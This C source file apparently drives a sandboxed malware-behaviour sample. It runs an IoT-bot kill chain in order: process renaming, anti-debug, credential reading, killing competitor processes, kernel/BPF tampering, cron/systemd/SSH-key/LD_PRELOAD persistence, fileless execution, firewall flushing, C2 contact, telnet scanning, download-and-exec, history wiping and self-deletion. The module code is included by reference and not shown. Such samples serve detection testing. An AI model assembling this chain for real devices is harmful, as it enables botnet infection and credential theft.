/*
 * Most behaviours in one program, in the order a typical IoT bot performs them:
 * masquerade, anti-debug, reconnaissance, competitor killing, watchdog, kernel
 * tampering, raw sockets, persistence, fileless and dropped execution, firewall
 * flushing, C2 contact and scanning, download-and-exec, track covering, self-deletion
 * and finally daemonising (the original process exits; the daemon lives ~3 s).
 * Usage: all_in_one [C2-NAME]. Each step prints "== <name>" first.
 */
#define SAMPLE_ALL_IN_ONE 1
#include "common.h"

#include "antidebug_traceme.c"
#include "c2_client.c"
#include "cred_read.c"
#include "daemon_doublefork.c"
#include "download_exec.c"
#include "dropper.c"
#include "history_wipe.c"
#include "iptables_flush.c"
#include "kmod_bpf.c"
#include "memfd_exec.c"
#include "persist_cron.c"
#include "persist_initd.c"
#include "persist_ldpreload.c"
#include "persist_rclocal.c"
#include "persist_shellrc.c"
#include "persist_sshkey.c"
#include "persist_systemd.c"
#include "proc_walk_kill.c"
#include "raw_socket.c"
#include "rename_prctl.c"
#include "selfdelete.c"
#include "telnet_scan.c"
#include "watchdog.c"

typedef int (*aio_step_fn)(int, char **);

static void aio_step(const char *name, aio_step_fn fn, int argc, char **argv)
{
    printf("== %s\n", name);
    fflush(stdout);
    fn(argc, argv);
}

/* PTRACE_TRACEME may succeed when nothing traces us: keep it away from later execs. */
static int aio_antidebug_in_child(int argc, char **argv)
{
    pid_t pid;
    fflush(stdout);
    pid = fork();
    if (pid == 0)
        _exit(run_antidebug_traceme(argc, argv));
    if (check("fork anti-debug child", pid) < 0)
        return 1;
    wait_bounded("anti-debug child", pid, 5000);
    return 0;
}

int main(int argc, char **argv)
{
    char c2[256];
    char *args[3];
    int n;
    sample_dispatch(argc, argv);
    require_sandbox("all_in_one");
    snprintf(c2, sizeof c2, "%s", argc >= 2 && argv[1][0] != '-' ? argv[1] : SAMPLE_C2_NAME);
    args[0] = "all_in_one";
    args[1] = c2;
    args[2] = NULL;
    n = 2;
    /* rename_prctl overwrites the real argv strings (that is its behaviour). */
    aio_step("rename_prctl", run_rename_prctl, argc, argv);
    aio_step("antidebug_traceme", aio_antidebug_in_child, 1, args);
    aio_step("cred_read", run_cred_read, 1, args);
    aio_step("proc_walk_kill", run_proc_walk_kill, 1, args);
    aio_step("watchdog", run_watchdog, 1, args);
    aio_step("kmod_bpf", run_kmod_bpf, 1, args);
    aio_step("raw_socket", run_raw_socket, 1, args);
    aio_step("persist_cron", run_persist_cron, 1, args);
    aio_step("persist_initd", run_persist_initd, 1, args);
    aio_step("persist_rclocal", run_persist_rclocal, 1, args);
    aio_step("persist_systemd", run_persist_systemd, 1, args);
    aio_step("persist_shellrc", run_persist_shellrc, 1, args);
    aio_step("persist_sshkey", run_persist_sshkey, 1, args);
    aio_step("memfd_exec", run_memfd_exec, 1, args);
    aio_step("dropper", run_dropper, 1, args);
    aio_step("iptables_flush", run_iptables_flush, 1, args);
    aio_step("c2_client", run_c2_client, n, args);
    aio_step("telnet_scan", run_telnet_scan, 1, args);
    aio_step("download_exec", run_download_exec, n, args);
    aio_step("history_wipe", run_history_wipe, 1, args);
    /* After every exec: a preload entry makes the loader warn in dynamic programs. */
    aio_step("persist_ldpreload", run_persist_ldpreload, 1, args);
    aio_step("selfdelete", run_selfdelete, 1, args);
    aio_step("daemon_doublefork", run_daemon_doublefork, 1, args);
    return 0;
}
